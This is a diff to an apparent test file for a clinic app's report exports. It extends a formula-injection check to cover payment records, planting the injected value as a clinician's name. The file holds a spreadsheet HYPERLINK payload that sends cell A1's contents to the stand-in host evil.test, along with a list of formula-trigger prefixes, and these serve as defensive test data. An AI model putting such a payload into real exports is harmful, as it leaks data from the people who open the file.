@@ -11,7 +11,7 @@ from accounts.models import Role, User
 from reports.exports import REGISTRY
 
 PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
-KEYS = ["appointments", "sessions", "needle_points", "side_effects", "psfs"]
+KEYS = ["appointments", "sessions", "needle_points", "side_effects", "psfs", "payments"]
 PAYLOAD = 'HYPERLINK("http://evil.test/?x="&A1,"Click")'
 
 
@@ -43,6 +43,17 @@ def plant(clinic, key, value):
         session = clinic.sessions["covered"]
         add_psfs(session.patient, clinic.anna, session.started_at, [(value, 5)])
         return "Activity"
+    if key == "payments":
+        # A receipt on one of Anna's completed visits in the range; her name is the planted text.
+        from appointments.models import Payment
+
+        visit = Appointment.objects.filter(therapist=clinic.anna, status="completed").first()
+        Payment.objects.create(
+            appointment=visit, amount="95.00", method="cash", receipt_number=1, recorded_by=clinic.ben,
+            recorded_at=visit.start,
+        )  # fmt: skip
+        User.objects.filter(pk=clinic.anna.pk).update(full_name=value)
+        return "Clinician"
     raise AssertionError(key)
 
 
